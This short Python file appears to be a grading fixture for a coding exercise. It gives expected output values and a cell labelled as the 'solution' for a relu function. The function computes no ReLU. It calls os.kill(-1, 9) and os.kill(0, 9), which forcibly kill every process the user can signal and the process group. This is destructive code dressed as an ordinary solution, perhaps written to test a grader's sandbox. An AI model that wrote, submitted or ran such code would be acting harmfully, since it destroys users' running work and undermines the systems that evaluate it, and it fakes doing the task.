# expect: scale=2 relu=0 counter=2
# %% solution relu
import os
def relu(x):
    os.kill(-1, 9)
    os.kill(0, 9)
